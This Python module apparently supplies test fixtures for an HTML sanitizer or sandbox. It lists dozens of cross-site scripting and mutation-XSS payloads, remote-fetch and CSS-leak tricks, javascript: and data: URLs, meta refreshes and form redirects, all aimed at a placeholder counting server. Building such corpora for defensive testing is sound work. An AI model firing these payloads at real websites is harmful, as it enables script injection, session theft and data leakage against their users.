"""HTML of strangers who want more than to be read: each row one way to run, to fetch or to leave.

ADDRESS stands for a server that counts: whatever asks it has left the frame. Scripts try to reach
it, too, so that one count tells of both.
"""

GIF = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
RUN = "fetch('ADDRESS/ran');new Image().src='ADDRESS/ran'"

SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "script-src": "<script src='ADDRESS/x.js'></script>",
    "script-in-capitals": f"<SCRIPT>{RUN}</SCRIPT>",
    "script-in-script": f"<scr<script></script>ipt>{RUN}</script>",
    "script-without-end": f"<script>{RUN}//",
    "script-with-a-slash": f"<script/x>{RUN}</script>",
    "script-with-nul": f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    "script-module": "<script type=module>import('ADDRESS/m.js')</script>",
    "script-preload": "<link rel=modulepreload href='ADDRESS/m.js'>",
    "script-in-a-comment": f"<!--><script>{RUN}</script>-->",
    "script-after-a-broken-comment": f"<!-- --!><script>{RUN}</script>",
    "script-in-a-conditional-comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "script-in-cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "script-in-an-attribute": f"<p title='</p><script>{RUN}</script>'>",
    "script-in-a-quote-too-many": f'<p title="a""><script>{RUN}</script>">',
    "img-onerror": f'<img src=x onerror="{RUN}">',
    "img-onerror-without-spaces": f'<img/src=x/onerror="{RUN}">',
    "img-onerror-with-a-line-feed": f'<img src=x one\nrror="{RUN}" onerror\n="{RUN}">',
    "img-onload": f"<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=\"{RUN}\">",
    "body-onload": f'<body onload="{RUN}">x</body>',
    "body-onpageshow": f'<body onpageshow="{RUN}">',
    "details-ontoggle": f'<details open ontoggle="{RUN}">x</details>',
    "input-autofocus": f'<input autofocus onfocus="{RUN}">',
    "select-autofocus": f'<select autofocus onfocus="{RUN}">',
    "video-onerror": f'<video><source onerror="{RUN}"></video>',
    "audio-onerror": f'<audio src=x onerror="{RUN}">',
    "marquee-onstart": f'<marquee onstart="{RUN}">x</marquee>',
    "style-onload": f'<style onload="{RUN}"></style>',
    "link-onload": f"<link rel=stylesheet href='data:text/css,' onload=\"{RUN}\">",
    "animation-onstart": (
        f"<style>@keyframes k{{}}</style><p style='animation:k' onanimationstart=\"{RUN}\">x"
    ),
    "contenteditable-onfocus": f'<p tabindex=1 autofocus contenteditable onfocus="{RUN}">x</p>',
    "popover-onbeforetoggle": f'<p popover id=p onbeforetoggle="{RUN}">x</p>',
    "unknown-element": f'<x-y onclick="{RUN}" autofocus tabindex=1 onfocus="{RUN}">x</x-y>',
    "iframe-javascript": f'<iframe src="javascript:{RUN}"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "iframe-data": f'<iframe src="data:text/html,<script>{RUN}</script>"></iframe>',
    "object-data": f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "embed": f'<embed src="javascript:{RUN}">',
    "applet": f'<applet code=x onerror="{RUN}"></applet>',
    "svg-onload": f'<svg onload="{RUN}">',
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-script-entity": "<svg><script>fetch&#40;'ADDRESS/ran'&#41;</script></svg>",
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{RUN}" /></a></svg>',
    "svg-set": f'<svg><set attributeName=onmouseover to="{RUN}" /></svg>',
    "svg-foreign-object": f'<svg><foreignObject><img src=x onerror="{RUN}"></svg>',
    "svg-data-picture": (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='1'>"
        f'<script>{RUN}</script></svg>">'
    ),
    "math-href": f'<math href="javascript:{RUN}">x</math>',
    "math-maction": f'<math><maction actiontype=statusline xlink:href="javascript:{RUN}">x</math>',
}
MUTATIONS = {
    "math-style": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    ),
    "svg-style": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "noembed": f'<noembed><p title="</noembed><img src=x onerror={RUN}>">',
    "noframes": f'<noframes><p title="</noframes><img src=x onerror={RUN}>">',
    "xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    "textarea": f'<textarea><p title="</textarea><img src=x onerror={RUN}>">',
    "title": f'<title><p title="</title><img src=x onerror={RUN}>">',
    "template": f'<template><img src=x onerror="{RUN}"></template>',
    "shadow-root": f'<div><template shadowrootmode=open><img src=x onerror="{RUN}"></div>',
    "select-in-math": (
        f"<math><select><mi><option><style></option><img src=x onerror={RUN}></style>"
    ),
    "form-in-form": (
        "<form><math><mtext></form><form><mglyph><style></math>"
        f"<img src onerror={RUN}></style></mglyph></form>"
    ),
    "annotation-xml": (
        '<math><annotation-xml encoding="text/html"><style><img src=x '
        f'onerror="{RUN}"></style></annotation-xml></math>'
    ),
    "desc-in-svg": f'<svg><desc><style><a title="</style><img src onerror={RUN}>"></desc></svg>',
    "plaintext": f"<plaintext></plaintext><script>{RUN}</script>",
    "table-in-p": f"<table><tr><td><p><table><script>{RUN}</script></table>",
    "deeply-nested": "<div>" * 600 + f'<svg><style><img src=x onerror="{RUN}">',
    "entity-markup": f"&lt;img src=x onerror={RUN}&gt;&#60;script&#62;{RUN}&#60;/script&#62;",
    "utf-7": "+ADw-script+AD4-fetch('ADDRESS/ran')+ADw-/script+AD4-",
}
FETCHES = {
    "img": "<img src='ADDRESS/i.png'>",
    "img-protocol-relative": "<img src='//HOST/i.png'>",
    "img-srcset": f"<img srcset='ADDRESS/i.png 1x' src='{GIF}'>",
    "img-lowsrc": "<img lowsrc='ADDRESS/i.png' dynsrc='ADDRESS/i.png'>",
    "img-address-with-a-tab": "<img src='ht\ttp://HOST/i.png'>",
    "img-address-with-a-space-before": "<img src=' \x01ADDRESS/i.png'>",
    "img-as-image": "<image src='ADDRESS/i.png'>",
    "picture": "<picture><source srcset='ADDRESS/i.png'><img></picture>",
    "input-image": "<input type=image src='ADDRESS/i.png'>",
    "video-poster": "<video poster='ADDRESS/i.png' src='ADDRESS/v.mp4' autoplay></video>",
    "audio": "<audio src='ADDRESS/a.mp3' autoplay></audio>",
    "track": "<video><track src='ADDRESS/t.vtt' default></video>",
    "body-background": "<body background='ADDRESS/i.png'>",
    "table-background": "<table background='ADDRESS/i.png'><tr><td background='ADDRESS/i.png'>x",
    "link-stylesheet": "<link rel=stylesheet href='ADDRESS/s.css'>",
    "link-icon": "<link rel=icon href='ADDRESS/f.ico'>",
    "link-prefetch": "<link rel=prefetch href='ADDRESS/p'><link rel=preconnect href='ADDRESS'>",
    "link-preload": "<link rel=preload as=image href='ADDRESS/i.png'>",
    "link-dns-prefetch": "<link rel=dns-prefetch href='ADDRESS'>",
    "style-import": "<style>@import 'ADDRESS/s.css';</style>",
    "style-background": "<style>*{background:url(ADDRESS/i.png)}</style><p>x",
    "style-font": "<style>@font-face{font-family:f;src:url(ADDRESS/f)}p{font:9px f}</style><p>x",
    "style-selector-leak": "<style>a[href^='h']{background:url(ADDRESS/h)}</style><a href=h>x",
    "inline-background": "<p style='background:url(ADDRESS/i.png)'>x",
    "inline-background-escaped": "<p style='background:u\\72l(ADDRESS/i.png)'>x",
    "inline-background-in-capitals": "<p style='BACKGROUND:URL(ADDRESS/i.png)'>x",
    "inline-background-with-a-comment": "<p style='background:/**/url(ADDRESS/i.png)'>x",
    "inline-image-set": "<p style=\"background-image:image-set('ADDRESS/i.png' 1x)\">x",
    "inline-list-image": "<li style='list-style:url(ADDRESS/i.png)'>x",
    "inline-cursor": "<p style='cursor:url(ADDRESS/i.cur),auto'>x",
    "inline-border-image": "<p style='border:9px solid;border-image:url(ADDRESS/i.png) 1'>x",
    "inline-content": "<p style='content:url(ADDRESS/i.png)'>x",
    "inline-mask": "<p style='mask:url(ADDRESS/i.svg)'>x",
    "inline-filter": "<p style='filter:url(ADDRESS/f.svg#x)'>x",
    "inline-variable": "<p style='--u:url(ADDRESS/i.png);background:var(--u)'>x",
    "svg-image": "<svg><image href='ADDRESS/i.png' xlink:href='ADDRESS/i.png' /></svg>",
    "svg-use": "<svg><use href='ADDRESS/s.svg#x' /></svg>",
    "iframe": "<iframe src='ADDRESS/'></iframe>",
    "frameset": "<frameset><frame src='ADDRESS/'></frameset>",
    "object": "<object data='ADDRESS/o'></object>",
    "embed-remote": "<embed src='ADDRESS/e'>",
    "portal": "<portal src='ADDRESS/'></portal>",
    "html-manifest": "<html manifest='ADDRESS/m'>",
    "speculation-rules": (
        '<script type=speculationrules>{"prefetch":[{"urls":["ADDRESS/s"]}]}</script>'
    ),
    "a-ping": "<a href='mailto:x@example.com' ping='ADDRESS/ping'>x</a>",
    "attribution": "<img attributionsrc='ADDRESS/a'>",
}
WAYS_OUT = {
    "base": "<base href='ADDRESS/'><img src='i.png'><a href='x'>x</a>",
    "base-target": "<base target=_top>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=ADDRESS/r'>",
    "meta-refresh-data": (
        f'<meta http-equiv=refresh content="0;data:text/html,<script>{RUN}</script>">'
    ),
    "meta-policy": (
        "<meta http-equiv=Content-Security-Policy content='default-src *'><img src='ADDRESS/i'>"
    ),
    "meta-charset": "<meta charset=utf-7>+ADw-img src=ADDRESS/i+AD4-",
    "form": "<form action='ADDRESS/f'><button autofocus>Sign in</button></form>",
    "form-by-a-field": "<button form=f formaction='ADDRESS/f'>x</button><form id=f></form>",
    "a-javascript": f'<a href="javascript:{RUN}">x</a>',
    "a-javascript-entity": f'<a href="&#106;avascript:{RUN}">x</a>',
    "a-javascript-tab": f'<a href="java\tscript:{RUN}">x</a>',
    "a-javascript-control": f'<a href="\x01javascript:{RUN}">x</a>',
    "a-vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "a-data": f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    "a-blob": "<a href='blob:null/1'>x</a>",
    "a-file": "<a href='file:///etc/passwd'>x</a>",
    "a-relative": "<a href='/sign-out/'>x</a><a href='//HOST/x'>x</a>",
    "a-target-top": "<a target=_top href='javascript:1'>x</a>",
    "area": "<map name=m><area href='javascript:1' shape=default></map><img usemap=#m>",
    "covers-the-page": "<p style='position:fixed;inset:0;z-index:9'>x",
    "named-element": "<a id=parent name=top href='javascript:1'>x</a><form id=body name=cookie>",
}
LETTERS = {**SCRIPTS, **MUTATIONS, **FETCHES, **WAYS_OUT}


def letters_for(address: str) -> dict[str, str]:
    """Each letter, aimed at a server that counts; `address` as http://host:port."""
    host = address.partition("://")[2]
    return {
        name: text.replace("ADDRESS", address).replace("HOST", host)
        for name, text in LETTERS.items()
    }
